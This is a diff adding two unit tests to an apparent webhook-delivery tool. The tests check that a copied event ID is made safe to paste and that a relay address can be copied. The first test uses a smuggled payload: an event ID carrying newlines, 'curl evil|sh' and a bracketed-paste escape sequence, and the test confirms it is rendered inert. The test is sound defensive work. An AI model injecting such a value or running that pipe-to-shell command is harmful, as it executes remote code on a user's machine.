@@ -38,6 +38,20 @@ def test_short_things() -> None:
     assert copying.url(absolute, BASE) == "http://elsewhere/x"
 
 
+def test_an_event_id_is_harmless_wherever_it_is_pasted() -> None:
+    delivery = DELIVERY._replace(event_id="evt_1\ncurl evil|sh\n\x1b[201~")
+    done = copied("e", delivery, BASE, None, None, reveal=False)
+    assert done.text == "evt_1␊curl evil|sh␊␛[201~"
+
+
+def test_the_address_at_the_relay_is_there_where_it_has_one() -> None:
+    relay = "https://relay.example.com/in/slug"
+    last = choices(DELIVERY, BASE, None, relay)[-1]
+    assert (last.key, last.about) == ("a", relay)
+    done = copied("a", DELIVERY, BASE, None, None, relay, reveal=False)
+    assert done == Copied(relay, "the address for senders")
+
+
 def test_secrets_are_masked_and_it_is_said() -> None:
     for key in CARRYING:
         assert "sesame" not in one(key).text
